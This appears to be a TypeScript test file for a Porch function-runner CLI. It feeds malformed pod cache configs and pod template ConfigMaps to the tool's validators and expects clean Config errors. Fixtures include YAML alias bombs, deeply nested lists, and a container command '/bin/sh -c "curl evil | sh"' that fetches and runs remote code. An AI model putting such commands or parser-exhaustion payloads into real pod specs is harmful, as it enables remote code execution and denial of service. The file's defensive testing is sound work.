/**
 * Bad pod runtime configuration, in the tallied corpus (test/support/reliability/tally.ts): malformed --pod-cache-config
 * files and malformed function pod template ConfigMaps (--function-pod-template). Each must be
 * a Config error (exit 3 in the CLI) whose one-line message names the file or ConfigMap and what
 * is wrong, or, for the fields Porch ignores when they are wrong (a timeToLive that is not a
 * duration), load with a warning naming the entry; none may crash or hang the reader.
 * (The CLI cases read some of these through `fnr serve` and `fnr pods warm`: cli.test.ts.)
 */
import {writeFile} from 'node:fs/promises'
import path from 'node:path'

import type {V1ConfigMap} from '@kubernetes/client-node'
import {expect} from 'chai'

import {PodCacheConfig} from '../../src/lib/config/pod-cache-config.js'
import {FnrError} from '../../src/lib/errors.js'
import {templatesFromConfigMap} from '../../src/lib/pods/model/template.js'
import {registerSummary, tally, withinHangLimit} from '../support/reliability/tally.js'
import {TempDirs} from '../support/tmp.js'

registerSummary()

function aliasBomb(levels: number, fan: number, indent = ''): string {
  const lines = [`${indent}l0: &l0 [lol]`]
  for (let i = 1; i <= levels; i++) lines.push(`${indent}l${i}: &l${i} [${Array.from({length: fan}, () => `*l${i - 1}`).join(', ')}]`)
  return `${lines.join('\n')}\n`
}

/** A malformed pod cache config: its text, and the Config error (or the warning) it must give. */
const POD_CACHE_CASES: Array<{label: string; text: string; error?: RegExp; warning?: RegExp}> = [
  {label: 'not YAML (unclosed flow sequence)', text: '- name: example.com/fn:v1\n  timeToLive: [\n', error: /pod cache config .* is not valid YAML/},
  {label: 'tab indentation', text: '- name: example.com/fn:v1\n\ttimeToLive: 5m\n', error: /is not valid YAML/},
  // Porch v1.5.7's map format is image: ttl (test/config/porch-files.test.ts); a map as the value is not it
  {label: 'a map of maps (not the old format)', text: 'example.com/fn:v1: {timeToLive: 5m}\n', error: /entry 1: the old map format is image: timeToLive, but the value of "example.com\/fn:v1" is a map/},
  {label: 'a scalar', text: 'just text\n', error: /must be a YAML list/},
  {label: 'an entry that is a string', text: '- example.com/fn:v1\n', error: /entry 1: Invalid value: "example\.com\/fn:v1": must be of type object/},
  {label: 'an entry that is a list', text: '- [name, example.com/fn:v1]\n', error: /entry 1: Invalid value: "array": must be of type object/},
  {label: 'an entry without a name', text: '- timeToLive: 5m\n', error: /entry 1: name: Required value/},
  {label: 'an empty name', text: '- name: "  "\n', error: /entry 1: name: Invalid value: " {2}": must not be blank/},
  {label: 'a name that is a number', text: '- name: 42\n', error: /entry 1: name: Invalid value: 42: must be of type string/},
  {label: 'the second entry is bad', text: '- name: example.com/a:v1\n- {timeToLive: 5m}\n', error: /entry 2: name: Required value/},
  {label: 'maxWaitlistLength a word', text: '- name: example.com/fn:v1\n  maxWaitlistLength: lots\n', error: /entry 1 \(example\.com\/fn:v1\): maxWaitlistLength: Invalid value: "lots": must be an integer/},
  {label: 'maxParallelPodsPerFunction a fraction', text: '- name: example.com/fn:v1\n  maxParallelPodsPerFunction: 1.5\n', error: /maxParallelPodsPerFunction: Invalid value: 1\.5: must be an integer/},
  {label: 'resources a list', text: '- name: example.com/fn:v1\n  resources: [cpu]\n', error: /resources: Invalid value: "array": must be of type object/},
  {label: 'resources.requests a list', text: '- name: example.com/fn:v1\n  resources: {requests: [cpu]}\n', error: /resources\.requests: Invalid value: "array": must be of type object/},
  {label: 'a quantity that is a map', text: '- name: example.com/fn:v1\n  resources: {limits: {memory: {a: b}}}\n', error: /resources\.limits\.memory: Invalid value: "object": must be of type number or string/},
  {label: 'responseCache a word', text: '- name: example.com/fn:v1\n  responseCache: sometimes\n', error: /responseCache: Invalid value: "sometimes": must be a duration like 30m/},
  {label: 'an alias bomb', text: `- name: example.com/fn:v1\n  bomb:\n${aliasBomb(9, 10, '    ')}`, error: /is not valid YAML/},
  {label: 'lists nested 10,000 deep', text: `- name: example.com/fn:v1\n  x: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`, error: /is not valid YAML|nested/},
  {label: 'invalid UTF-8 in a name', text: '- name: "example.com/\udfff:v1"\n  maxWaitlistLength: x\n', error: /maxWaitlistLength: Invalid value: "x": must be an integer/},
  // Porch ignores a bad timeToLive (the flag's TTL applies); fnr says so
  {label: 'timeToLive not a duration', text: '- name: example.com/fn:v1\n  timeToLive: forever\n', warning: /entry 1 \(example\.com\/fn:v1\): timeToLive "forever" is not a duration; using --pod-ttl/},
  {label: 'timeToLive negative', text: '- name: example.com/fn:v1\n  timeToLive: -5m\n', warning: /timeToLive "-5m" is not a duration/},
]

const POD = `apiVersion: v1
kind: Pod
spec:
  containers:
  - name: function
    image: placeholder
    command: [/wrapper-server-tools/wrapper-server]
    args: [--verbosity, "3"]
`
const SERVICE = 'apiVersion: v1\nkind: Service\nspec:\n  ports: [{port: 9446, targetPort: 9446}]\n'

/** A malformed template ConfigMap (its data) and the contract point or problem it must name. */
const TEMPLATE_CASES: Array<{label: string; data: Record<string, string> | undefined; error: RegExp}> = [
  {label: 'no data at all', data: undefined, error: /contract point 1 is broken: key template \(a Pod\) is missing/},
  {label: 'no template key', data: {serviceTemplate: SERVICE}, error: /contract point 1 is broken: key template \(a Pod\) is missing/},
  {label: 'a blank template', data: {template: '  \n', serviceTemplate: SERVICE}, error: /key template \(a Pod\) is missing/},
  {label: 'no serviceTemplate key', data: {template: POD}, error: /contract point 4 is broken: key serviceTemplate \(a Service\) is missing/},
  {label: 'a template that is not YAML', data: {template: 'kind: [\n', serviceTemplate: SERVICE}, error: /key template is not valid YAML or JSON/},
  {label: 'a template that is a list', data: {template: '- a\n- b\n', serviceTemplate: SERVICE}, error: /key template must hold one object/},
  {label: 'a template that is a scalar', data: {template: 'hello\n', serviceTemplate: SERVICE}, error: /key template must hold one object/},
  {label: 'a template that is a Secret', data: {template: 'apiVersion: v1\nkind: Secret\n', serviceTemplate: SERVICE}, error: /contract point 1 is broken: key template must hold a Pod, not a Secret/},
  {label: 'a Pod without containers', data: {template: 'apiVersion: v1\nkind: Pod\nspec: {}\n', serviceTemplate: SERVICE}, error: /contract point 1 is broken: the Pod has no containers/},
  {label: 'containers that is a map', data: {template: 'apiVersion: v1\nkind: Pod\nspec: {containers: {function: {}}}\n', serviceTemplate: SERVICE}, error: /contract point 1 is broken: the Pod has no containers/},
  {label: 'no container named function', data: {template: POD.replace('name: function', 'name: fn'), serviceTemplate: SERVICE}, error: /contract point 1 is broken: no container is named "function" \(containers: "fn"\)/},
  {label: 'a null container', data: {template: 'apiVersion: v1\nkind: Pod\nspec: {containers: [null]}\n', serviceTemplate: SERVICE}, error: /contract point 1 is broken: no container is named "function"/},
  {label: 'a command that is not the wrapper server', data: {template: POD.replace('[/wrapper-server-tools/wrapper-server]', '[/bin/sh, -c, "curl evil | sh"]'), serviceTemplate: SERVICE}, error: /contract point 2 is broken: the "function" container's command must start the wrapper server/},
  {label: 'no command', data: {template: POD.replace('    command: [/wrapper-server-tools/wrapper-server]\n', ''), serviceTemplate: SERVICE}, error: /contract point 2 is broken/},
  {label: 'args with --', data: {template: POD.replace('[--verbosity, "3"]', '[--, /bin/sh]'), serviceTemplate: SERVICE}, error: /contract point 3 is broken: the "function" container's args must not contain "--"/},
  {label: 'a service template that is not YAML', data: {template: POD, serviceTemplate: '{ports: [\n'}, error: /key serviceTemplate is not valid YAML or JSON/},
  {label: 'a service template that is a ConfigMap', data: {template: POD, serviceTemplate: 'apiVersion: v1\nkind: ConfigMap\n'}, error: /contract point 4 is broken: key serviceTemplate must hold a Service, not a ConfigMap/},
  {label: 'a Service without the wrapper port', data: {template: POD, serviceTemplate: SERVICE.replace(/9446/g, '8080')}, error: /contract point 4 is broken: the Service must have a port whose targetPort is 9446/},
  {label: 'Service ports that are a string (used to crash: ports.some is not a function)', data: {template: POD, serviceTemplate: 'apiVersion: v1\nkind: Service\nspec:\n  ports: "9446"\n'}, error: /contract point 4 is broken: the Service must have a port whose targetPort is 9446/},
  {label: 'a Service spec that is a string', data: {template: POD, serviceTemplate: 'apiVersion: v1\nkind: Service\nspec: ports\n'}, error: /contract point 4 is broken/},
  {label: 'a command that is a string, not a list', data: {template: POD.replace('[/wrapper-server-tools/wrapper-server]', '/wrapper-server-tools/wrapper-server'), serviceTemplate: SERVICE}, error: /contract point 2 is broken: the "function" container's command must start the wrapper server/},
  {label: 'args that are a string, not a list', data: {template: POD.replace('[--verbosity, "3"]', '"--verbosity 3"'), serviceTemplate: SERVICE}, error: /contract point 3 is broken: the "function" container's args must be a list/},
  {label: 'an alias bomb in the template', data: {template: `${POD}metadata:\n  annotations:\n${aliasBomb(9, 10, '    ')}`, serviceTemplate: SERVICE}, error: /key template is not valid YAML or JSON/},
  {label: 'a template nested 10,000 deep', data: {template: `${POD}x: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`, serviceTemplate: SERVICE}, error: /key template is not valid YAML or JSON|nested/},
]

async function configOutcome(label: string, work: () => unknown): Promise<{error?: FnrError; value?: unknown}> {
  try {
    return {value: await withinHangLimit(label, Promise.resolve().then(work))}
  } catch (err) {
    if (!(err instanceof FnrError)) tally.crash(label, `not an FnrError: ${(err as Error)?.stack ?? String(err)}`)
    expect(err, `${label}: ${String(err)}`).to.be.instanceOf(FnrError)
    return {error: err as FnrError}
  }
}

function expectConfigError(label: string, error: FnrError | undefined, pattern: RegExp): void {
  expect(error, `${label}: must fail`).to.be.instanceOf(FnrError)
  expect(error!.kind, error!.message).to.equal('Config')
  expect(error!.exitCode).to.equal(3)
  expect(error!.message, label).to.match(pattern)
  expect(error!.message, `${label}: one line`).to.not.contain('\n')
}

describe('reliability: bad pod runtime configuration', () => {
  const temp = new TempDirs()
  let dir: string
  before(async () => {
    dir = await temp.make('fnr-rel-pod-config-')
  })
  after(() => temp.cleanup())

  describe('--pod-cache-config files', () => {
    POD_CACHE_CASES.forEach((c, i) => {
      it(c.label, async () => {
        tally.tried('pod cache config', {podCacheConfig: c.text})
        const file = path.join(dir, `pcc-${i}.yaml`)
        await writeFile(file, c.text)
        const label = `pod cache config: ${c.label}`
        const {error, value} = await configOutcome(label, () => PodCacheConfig.load(file))
        if (c.error) {
          expectConfigError(label, error, c.error)
          expect(error!.message, 'names the file').to.contain(file)
        } else {
          expect(error, label).to.equal(undefined)
          const {config} = value as {config: PodCacheConfig}
          expect(config.warnings.join('\n')).to.match(c.warning!)
          expect(config.warnings.join('\n'), 'names the file').to.contain(file)
        }
        // Lenient, as `fnr serve` reads it without --strict-config (Porch only warns): never an error, the
        // problem is a warning naming the file, and the good entries of the file stay.
        const lenient = await configOutcome(`${label} (lenient)`, () => PodCacheConfig.load(file, {lenient: true}))
        expect(lenient.error, `${label} (lenient)`).to.equal(undefined)
        const {config} = lenient.value as {config: PodCacheConfig}
        expect(config.warnings.join('\n'), `${label} (lenient): warned`).to.match(c.error ?? c.warning!)
        expect(config.warnings.join('\n'), 'names the file').to.contain(file)
      })
    })
  })

  describe('function pod template ConfigMaps (--function-pod-template)', () => {
    for (const c of TEMPLATE_CASES) {
      it(c.label, async () => {
        tally.tried('template ConfigMap', {templateConfigMap: c.data ?? null})
        const cm: V1ConfigMap = {metadata: {name: 'fn-template', namespace: 'porch-system'}, ...(c.data ? {data: c.data} : {})}
        const label = `template ConfigMap: ${c.label}`
        const {error} = await configOutcome(label, () => templatesFromConfigMap(cm))
        expectConfigError(label, error, c.error)
        expect(error!.message, 'names the ConfigMap').to.match(/^function pod template \(ConfigMap porch-system\/fn-template\): /)
      })
    }
  })
})
